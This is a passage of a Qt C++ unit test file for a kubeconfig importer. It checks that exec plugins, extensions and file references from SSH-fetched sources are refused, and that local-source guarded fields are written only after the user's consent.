    QTest::newRow("cluster extensions")
        << str("%1\n    extensions:\n    - name: tool.example/y\n      extension: {a: b}") << str("")
        << str("") << str("extensions") << str("tool.example/y") << str("extensions") << false;
    QTest::newRow("context extensions")
        << str("") << str("") << str("extensions:\n    - name: tool.example/z\n      extension: {a: b}")
        << str("extensions") << str("tool.example/z") << str("extensions") << false;
}

void TestKubeconfigImporter::guardedFields()
{
    QFETCH(QString, clusterBody);
    QFETCH(QString, userBody);
    QFETCH(QString, contextBody);
    QFETCH(QString, field);
    QFETCH(QString, shown);
    QFETCH(QString, writtenKey);
    QFETCH(bool, takenByRefresh);
    const KubeconfigDocument source = writeSourceText(clusterBody, userBody, contextBody);
    QCOMPARE(source.status(), KubeconfigDocument::Status::Ok);
    const QString refreshTarget = writeRefreshTarget(str("k3s"), str("k3s"), str("cert"));
    const QString newTarget = m_dir->filePath(str("home/new-config"));

    for (const bool refresh : {false, true}) {
        const QString target = refresh ? refreshTarget : newTarget;
        const QString name = refresh ? str("k3s") : str("fresh");
        const KubeconfigSet set = KubeconfigSet::load({target});
        const QString label = refresh ? str("refresh") : str("new context");

        // From elsewhere (SSH, pkexec, a pipe): refused, naming the field, what it holds and why.
        ImportRequest request = requestFor(str("ssh://root@127.0.0.1/etc/rancher/k3s/k3s.yaml"), name);
        request.origin = SourceOrigin::Elsewhere;
        request.allowGuarded = true; // a yes does not open a fetched source
        QString error;
        QVERIFY2(!plan(set, target, source, request, &error), qPrintable(label));
        QVERIFY2(error.contains(str("only credentials may cross")), qPrintable(error));
        QVERIFY2(error.contains(str(": %1 ").arg(field)), qPrintable(error));
        QVERIFY2(error.contains(shown), qPrintable(error));
        QVERIFY2(error.contains(str("ssh://root@127.0.0.1")), qPrintable(error));

        // From a local file: planned, but written only with a yes, and then as the file meant.
        request = requestFor(source.path(), name);
        const auto planned = plan(set, target, source, request, &error);
        QVERIFY2(planned, qPrintable(label + QLatin1Char(' ') + error));
        QCOMPARE(planned->needsConsent(), !refresh || takenByRefresh);
        if (!planned->needsConsent()) {
            QVERIFY2(planned->warnings.join(QLatin1Char('\n')).contains(field),
                     qPrintable(planned->warnings.join(QLatin1Char('\n'))));
            continue;
        }
        QStringList described;
        for (const GuardedField &guarded : planned->guarded)
            described << guarded.describe();
        QVERIFY2(described.join(QLatin1Char('\n')).contains(str(": %1 ").arg(field)),
                 qPrintable(described.join(QLatin1Char('\n'))));
        const QString section = field == QLatin1String("extensions") && !contextBody.isEmpty()
                                    ? str("contexts")
                                : !clusterBody.isEmpty() ? str("clusters")
                                                         : str("users");
        const char *body = section == QLatin1String("contexts")   ? "context"
                           : section == QLatin1String("clusters") ? "cluster"
                                                                  : "user";
        const YAML::Node written = entry(planned->edits.value(target).root(), section.toUtf8().constData(),
                                         section == QLatin1String("users") && refresh      ? str("k3s")
                                         : section == QLatin1String("clusters") && refresh ? str("k3s")
                                                                                           : name)[body];
        QVERIFY2(keysOf(written).contains(writtenKey), qPrintable(keysOf(written).join(QLatin1Char(','))));
        // A file reference is never written as a path.
        for (const char *path : {"client-certificate", "client-key", "certificate-authority", "tokenFile"})
            QVERIFY(!keysOf(written).contains(QLatin1String(path)));
    }
}

void TestKubeconfigImporter::harmlessFieldsLeftOut_data()
{
    QTest::addColumn<QString>("clusterBody");
    QTest::addColumn<QString>("userBody");
    QTest::addColumn<QString>("contextBody");
    QTest::addColumn<QString>("leftOut");

    QTest::newRow("disable-compression") << str("%1\n    disable-compression: true") << str("") << str("")
                                         << str("cluster “default”: disable-compression");
    QTest::newRow("an unknown field")
        << str("") << str("%1\n    x-vendor: 1") << str("") << str("user “default”: x-vendor");
    QTest::newRow("the source's namespace")
        << str("") << str("") << str("namespace: kube-system") << str("context “default”: namespace");
}

void TestKubeconfigImporter::harmlessFieldsLeftOut()
{
    QFETCH(QString, clusterBody);
    QFETCH(QString, userBody);
    QFETCH(QString, contextBody);
    QFETCH(QString, leftOut);
    const KubeconfigDocument source = writeSourceText(clusterBody, userBody, contextBody);
    const QString target = m_dir->filePath(str("home/config"));
    ImportRequest request = requestFor(str("ssh://root@127.0.0.1/etc/rancher/k3s/k3s.yaml"), str("fresh"));
    request.origin = SourceOrigin::Elsewhere;
    request.loopbackHost = str("127.0.0.1");
    QString error;
    const auto planned = plan(KubeconfigSet::load({target}), target, source, request, &error);
    QVERIFY2(planned, qPrintable(error));
    QVERIFY(!planned->needsConsent());
    const QString warnings = planned->warnings.join(QLatin1Char('\n'));
    QVERIFY2(warnings.contains(str("only credentials cross")) && warnings.contains(leftOut),
             qPrintable(warnings));
    const YAML::Node root = planned->edits.value(target).root(); // a copy: value() returns a temporary
    QCOMPARE(keysOf(entry(root, "clusters", str("fresh"))["cluster"]),
             (QStringList{str("server"), str("certificate-authority-data")}));
    QCOMPARE(keysOf(entry(root, "users", str("fresh"))["user"]),
             (QStringList{str("client-certificate-data"), str("client-key-data")}));
    QCOMPARE(keysOf(entry(root, "contexts", str("fresh"))["context"]),
             (QStringList{str("cluster"), str("user")}));
}

void TestKubeconfigImporter::applyRefusesWithoutConsent()
{
    const KubeconfigDocument source = writeSourceText(
        {},
        str("exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: plugin\n"
            "      interactiveMode: Never"),
        {});
    const QString target = writeRefreshTarget(str("k3s"), str("k3s"), str("cert"));
    const QByteArray before = test::readFile(target);
    QString error;
    auto planned = plan(KubeconfigSet::load({target}), target, source, requestFor(source.path()), &error);
    QVERIFY2(planned, qPrintable(error));
    QVERIFY(planned->needsConsent());
    BackupStore backups(m_dir->filePath(str("state/backups")));
    KubeconfigWriter writer(backups);
    KubeconfigImporter::Result result = KubeconfigImporter::apply(*planned, writer, now());
    QVERIFY(!result.ok);
    QVERIFY2(result.error.contains(str("needs your yes")) && result.error.contains(str(": exec plugin")),
             qPrintable(result.error));
    QCOMPARE(test::readFile(target), before);
    QVERIFY(result.writes.empty());

    planned->request.allowGuarded = true;
    result = KubeconfigImporter::apply(*planned, writer, now());
    QVERIFY2(result.ok, qPrintable(result.error));
    const YAML::Node user = entry(KubeconfigDocument::load(target).root(), "users", str("k3s"))["user"];
    QVERIFY(keysOf(user).contains(str("exec")));
    QVERIFY(!keysOf(user).contains(str("client-certificate-data")));
}

QTEST_GUILESS_MAIN(TestKubeconfigImporter)
#include "tst_kubeconfigimporter.moc"
